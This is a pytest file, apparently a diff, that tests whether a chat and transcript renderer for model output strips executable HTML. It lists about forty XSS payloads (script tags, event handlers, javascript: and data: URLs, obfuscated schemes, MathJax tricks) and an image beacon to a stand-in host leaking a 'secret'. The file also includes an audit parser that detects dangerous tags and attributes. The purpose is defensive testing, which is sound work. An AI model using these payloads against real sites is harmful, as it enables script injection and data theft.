@@ -1,0 +1,180 @@
+"""Model and tool text never becomes live HTML: every payload below goes through each path that renders
+model text (the final answer's Markdown and math, reasoning, tool code and output, notices, malformed
+Harmony, the prompt, the chat view's operations and the saved transcript), and nothing executable may
+come out. The browser half (real Chromium, nothing runs) is tests/browser/test_xss_browser.py."""
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import pytest
+
+from gptoss_lab import ReplayEngine, Session
+from gptoss_lab.events import Delta, MessageEnd, MessageStart, Notice, ParseError, ToolCall, ToolEnd, ToolStart, \
+    TurnStart
+from gptoss_lab.widgets.chat import ChatView
+from gptoss_lab.widgets.sanitize import sanitize
+from gptoss_lab.widgets.transcript import Transcript, markdown_html
+
+PAYLOADS = [
+    "<script>window.__pwned=1</script>",
+    "<img src=x onerror=window.__pwned=1>",
+    '<svg onload="window.__pwned=1"><circle r=9 /></svg>',
+    "<svg><script>window.__pwned=1</script></svg>",
+    '<svg><a xlink:href="javascript:window.__pwned=1"><text y=9>x</text></a></svg>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
+    '<math href="javascript:window.__pwned=1"><mi>x</mi></math>',
+    '<a href="javascript:window.__pwned=1">raw link</a>',
+    "[md link](javascript:window.__pwned=1)",
+    "[upper](JaVaScRiPt:window.__pwned=1)",
+    "[entity](jav&#x61;script:window.__pwned=1)",
+    "[entity2](&#106;avascript:window.__pwned=1)",
+    "[tab](java\tscript:window.__pwned=1)",
+    "[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
+    "[vbs](vbscript:msgbox(1))",
+    "[relative](/api/kernels)",
+    "<javascript:window.__pwned=1>",
+    "![pixel](https://evil.example/leak?secret=1)",
+    "![js](javascript:window.__pwned=1)",
+    '<iframe src="javascript:window.__pwned=1"></iframe>',
+    '<object data="javascript:window.__pwned=1"></object><embed src="javascript:window.__pwned=1">',
+    '<form action="javascript:window.__pwned=1"><button formaction="javascript:1">go</button></form>',
+    '<div style="background:url(javascript:window.__pwned=1)">css</div>',
+    '<p style="width:expression(window.__pwned=1)">old IE</p>',
+    "<details open ontoggle=window.__pwned=1><summary>x</summary></details>",
+    '<a href="https://ok.example" onclick="window.__pwned=1">handler</a>',
+    '<base href="javascript:window.__pwned=1//">',
+    '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">',
+    "<input autofocus onfocus=window.__pwned=1>",
+    "<video><source onerror=window.__pwned=1></video>",
+    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
+    '$\\text{<img/src="x"/onerror="window.__pwned=1">}$',
+    "$\\href{javascript:window.__pwned=1}{click}$",
+    "$\\style{background:url(javascript:window.__pwned=1)}{x}$",
+    "$\\class{gx-run jp-Dialog}{x}$",
+    "$$\\text{<script>window.__pwned=1</script>}$$",
+    "$\\mbox{<svg onload=window.__pwned=1>}$",
+    "| a | b |\n|:-|-:|\n| <img src=x onerror=window.__pwned=1> | [x](javascript:1) |",
+    "```html\n<script>window.__pwned=1</script>\n```",
+    "`<img src=x onerror=window.__pwned=1>`",
+]
+
+_TAGS = {
+    "a", "abbr", "b", "blockquote", "br", "code", "del", "details", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6",
+    "hr", "i", "kbd", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td",
+    "tfoot", "th", "thead", "tr", "ul", "math", "mi", "mn", "mo", "ms", "mspace", "mtext", "mrow", "mfrac", "msqrt",
+    "mroot", "mstyle", "merror", "mpadded", "mphantom", "mfenced", "menclose", "msub", "msup", "msubsup", "munder",
+    "mover", "munderover", "mmultiscripts", "mprescripts", "none", "mtable", "mtr", "mtd", "mlabeledtr", "semantics",
+    "annotation",
+}
+
+
+class _Audit(HTMLParser):
+    """Lists everything in an HTML string that could run code, load something, or restyle the page."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.problems: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in _TAGS:
+            self.problems.append(f"tag <{tag}>")
+        for name, value in attrs:
+            value = (value or "").strip().lower()
+            if name.startswith("on"):
+                self.problems.append(f"handler {name} on <{tag}>")
+            elif name in ("src", "action", "formaction", "xlink:href", "data", "background", "poster", "srcset"):
+                self.problems.append(f"{name} on <{tag}>")
+            elif name == "href" and (tag != "a" or not value.startswith(("http://", "https://", "mailto:"))):
+                self.problems.append(f"href={value!r} on <{tag}>")
+            elif name == "style" and (tag not in ("th", "td") or not value.startswith("text-align")):
+                self.problems.append(f"style={value!r} on <{tag}>")
+            elif name == "class" and any(c.startswith(("jp-", "gx-run", "lm-")) for c in value.split()):
+                self.problems.append(f"class={value!r} on <{tag}>")
+            if "javascript:" in value or "vbscript:" in value:
+                self.problems.append(f"script URL in {name} on <{tag}>")
+
+    handle_startendtag = handle_starttag
+
+
+def _problems(html: str) -> list[str]:
+    audit = _Audit()
+    audit.feed(html)
+    audit.close()
+    return audit.problems
+
+
+def _without_our_style(html: str) -> str:
+    """The saved transcript starts with its own constant <style> block; everything after it is audited."""
+    head, _, rest = html.partition("</style>")
+    assert head.startswith('<div class="gx-fallback"><style>') and "<" not in head[len('<div class="gx-fallback"><style>'):]
+    return '<div class="gx-fallback">' + rest
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_final_answer_markdown_and_math_carry_nothing_executable(payload: str) -> None:
+    assert _problems(markdown_html(payload)) == []
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_sanitizer_on_raw_payloads(payload: str) -> None:
+    assert _problems(sanitize(payload)) == []
+
+
+def _turn_events(payload: str) -> list:
+    call = ToolCall("python", "analysis", payload, status="done", output=payload)
+    return [
+        TurnStart(payload, "low", "replay", "auto"),
+        MessageStart("analysis", None), Delta(payload, "analysis"), MessageEnd(None, None),
+        MessageStart("analysis", "python"), Delta(payload, "analysis"), MessageEnd(None, None),
+        ToolStart(call), ToolEnd(call),
+        Notice(payload, "warning"), ParseError(payload, payload),
+        MessageStart("commentary", None), Delta(payload, "commentary"), MessageEnd(None, None),
+        MessageStart("final", None), Delta(payload, "final"), MessageEnd(None, None),
+    ]
+
+
+def test_saved_transcript_html_carries_nothing_executable() -> None:
+    for payload in PAYLOADS:
+        html = Transcript.from_events(_turn_events(payload)).to_html()
+        assert _problems(_without_our_style(html)) == [], payload
+
+
+def test_chat_view_operations_carry_nothing_executable() -> None:
+    """Every HTML fragment the widget sends (Markdown so far, finished answer, highlighted code)."""
+    for payload in PAYLOADS:
+        view = ChatView()
+        view._shown = True
+        sent: list[dict] = []
+        view.observe(lambda change: sent.extend(change["new"]["ops"]), names="_chunk")
+        for event in _turn_events(payload) + [MessageStart("final", None), Delta(payload + "\n\nmore", "final")]:
+            view.handle(event)
+        view._flush()
+        fragments = [op[key] for op in sent for key in ("html", "code") if key in op]
+        assert len(fragments) >= 3
+        for fragment in fragments:
+            assert _problems(fragment) == [], (payload, fragment)
+
+
+def test_a_whole_turn_with_payloads_in_its_answer() -> None:
+    """The issue's example, end to end: approval never, no tools, the answer carries the payloads."""
+    answer = "The answer is " + " ".join(PAYLOADS)
+    view = ChatView()
+    reply = Session(ReplayEngine(f"<|channel|>final<|message|>{answer}<|return|>"), namespace={},
+                    approval="never", tools="").ask("Hi", view=view)
+    assert reply.final == answer                                  # the model's text is kept as written
+    for rendering in (view._static["text/html"], reply_html := Transcript.from_reply(reply).to_html()):
+        assert _problems(_without_our_style(rendering)) == []
+    assert "&lt;script&gt;" in reply_html                         # shown as text, not dropped silently
+
+
+def test_safe_content_survives_sanitizing() -> None:
+    """The allow-list is not a blank page: links, math, tables, code and text-as-written stay."""
+    html = markdown_html("[docs](https://example.org) and mail@x: [m](mailto:a@b.org)\n\n"
+                         "$\\frac{1}{2}$ and $\\text{a<b}$\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n`x < y`")
+    assert '<a href="https://example.org" target="_blank" rel="noopener noreferrer">docs</a>' in html
+    assert 'href="mailto:a@b.org"' in html
+    assert "<mfrac>" in html and "<mtext>a&lt;b</mtext>" in html
+    assert '<td style="text-align:right">2</td>' in html.replace("text-align: right", "text-align:right")
+    assert "<code>x &lt; y</code>" in html
+    assert markdown_html("![diagram](https://example.org/d.png)") == (
+        '<p><a href="https://example.org/d.png" target="_blank" rel="noopener noreferrer">[image: diagram]</a></p>\n')
